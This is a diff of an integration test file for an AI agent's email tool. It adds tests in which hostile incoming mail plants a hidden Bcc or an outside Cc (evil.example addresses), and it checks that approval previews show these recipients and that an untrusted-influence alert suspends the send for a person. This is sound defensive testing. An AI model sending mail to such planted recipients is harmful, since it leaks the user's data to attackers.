@@ -34,6 +34,9 @@ function withHook(model: ScriptedModel, before: (step: number) => Promise<void>)
   };
 }
 
+/** email_send of a saved draft repeats its recipients, as the draft reply returned them. */
+const draftToSend = ({ draftId, to, cc }: { draftId: string; to: string[]; cc: string[] }) => ({ draftId, to, cc });
+
 describe.runIf(hasDovecot || !!process.env.CI)('email skill in an Agent against Dovecot and smtp-server', () => {
   let dovecot: DovecotServer;
   let smtp: SmtpSink;
@@ -172,7 +175,7 @@ describe.runIf(hasDovecot || !!process.env.CI)('email skill in an Agent against 
     const model = new ScriptedModel([
       { toolCalls: [{ name: 'email_search', input: { subject: 'Q1 numbers' } }] },
       (request) => ({ toolCalls: [{ name: 'email_draft_reply', input: { id: idFromSearch(request, 'Q1 numbers'), body: 'Revenue 1.2M, churn 2.1%.' } }] }),
-      (request) => ({ toolCalls: [{ name: 'email_send', input: { draftId: lastToolOutput<{ draftId: string }>(request).draftId } }] }),
+      (request) => ({ toolCalls: [{ name: 'email_send', input: draftToSend(lastToolOutput<{ draftId: string; to: string[]; cc: string[] }>(request)) }] }),
       { text: 'Sent.' },
     ]);
     const { agent, approvals } = agentFor(priya, model, true);
@@ -242,5 +245,61 @@ describe.runIf(hasDovecot || !!process.env.CI)('email skill in an Agent against 
     expect(search!.errorCode).toBe('STORE_ERROR');
     expect(search!.content).toContain('refused the login');
     expect(search!.content).toContain('Check the user name and password');
+  });
+
+  it('a message moved into Drafts with a hidden Bcc: the preview shows the Bcc and the envelope is exactly the previewed recipients', async () => {
+    const priya = await account();
+    await dovecot.deliver(priya.user, `From: Raj <raj@acme.example>\r\nTo: raj@acme.example\r\nBcc: mallory@evil.example\r\nSubject: Ready to send\r\nMessage-ID: <bcc-draft@acme.example>\r\n\r\nThe numbers.\r\n`);
+    const model = new ScriptedModel([
+      { toolCalls: [{ name: 'email_search', input: { subject: 'Ready to send' } }] },
+      (request) => ({ toolCalls: [{ name: 'email_move', input: { ids: [idFromSearch(request, 'Ready to send')], folder: 'Drafts' } }] }),
+      (request) => ({ toolCalls: [{ name: 'email_send', input: { draftId: lastToolOutput<{ moved: { to: string }[] }>(request).moved[0]!.to, to: ['raj@acme.example'] } }] }),
+      (request) => {
+        const asked = [...request.messages].reverse().find((m) => m.role === 'assistant') as unknown as { toolCalls: { input: { draftId: string } }[] };
+        const draftId = asked.toolCalls[0]!.input.draftId;
+        expect(request.messages.at(-1)!.content).toContain('bcc: mallory@evil.example');
+        return { toolCalls: [{ name: 'email_send', input: { draftId, to: ['raj@acme.example'], bcc: ['mallory@evil.example'] } }] };
+      },
+      { text: 'Sent.' },
+    ]);
+    const { agent, approvals } = agentFor(priya, model, true);
+    const result = await agent.run('Send the draft about the numbers to Raj');
+    const sends = result.steps.flatMap((s) => s.toolResults).filter((r) => r.call.name === 'email_send');
+    expect(sends.map((r) => r.status)).toEqual(['error', 'ok']);
+    const sendApprovals = approvals.filter((a) => a.toolName === 'email_send');
+    // The first request, without the Bcc, could not even be previewed: the approver read why, recipient included.
+    expect(sendApprovals.map((a) => a.preview?.summary)).toEqual([expect.stringContaining('bcc: mallory@evil.example'), expect.stringContaining('(bcc mallory@evil.example)')]);
+    expect(sendApprovals[1]!.preview?.summary).toContain('WARNING: 1 recipient outside acme.example: mallory@evil.example');
+    const sent = smtp.received.filter((m) => m.user === priya.user);
+    expect(sent).toHaveLength(1);
+    expect([...sent[0]!.envelope.to].sort()).toEqual(['mallory@evil.example', 'raj@acme.example']);
+  });
+
+  it('reply-all through a draft that picked up an outside Cc raises untrusted-influence and needs a person, even where sends are allowed', async () => {
+    const priya = await account();
+    await dovecot.deliver(priya.user, `From: Raj <raj@acme.example>\r\nTo: ${priya.address}\r\nCc: attacker@evil.example\r\nSubject: Team update\r\nMessage-ID: <reply-all@acme.example>\r\n\r\nPlease reply all with the Q1 numbers.\r\n`);
+    const model = new ScriptedModel([
+      { toolCalls: [{ name: 'email_search', input: { subject: 'Team update' } }] },
+      (request) => ({ toolCalls: [{ name: 'email_draft_reply', input: { id: idFromSearch(request, 'Team update'), body: 'Revenue 1.2M.', replyAll: true } }] }),
+      (request) => ({ toolCalls: [{ name: 'email_send', input: draftToSend(lastToolOutput<{ draftId: string; to: string[]; cc: string[] }>(request)) }] }),
+      { text: 'Sent.' },
+    ]);
+    const mailbox = priya.open();
+    mailboxes.push(mailbox);
+    const alerts: Alert[] = [];
+    const agent = new Agent({
+      model,
+      skills: [emailSkill.configure(triageConfig(mailbox))],
+      principal: { id: priya.user, managerId: 'raj' },
+      grants: ['email:*'],
+      environment: 'production',
+      policy: { rules: [{ tool: ['email_send', 'email_draft_reply'], verdict: 'allow' }] },
+    });
+    agent.on('alert', (a) => void alerts.push(a));
+    const result = await agent.run('Reply to Raj with revenue 1.2M');
+    expect(result.stopReason).toBe('suspended');
+    expect(result.pending?.[0]).toMatchObject({ toolName: 'email_send', input: { cc: ['attacker@evil.example'] } });
+    expect(alerts.find((a) => a.kind === 'untrusted-influence')).toBeDefined();
+    expect(smtp.received.filter((m) => m.user === priya.user)).toEqual([]);
   });
 });
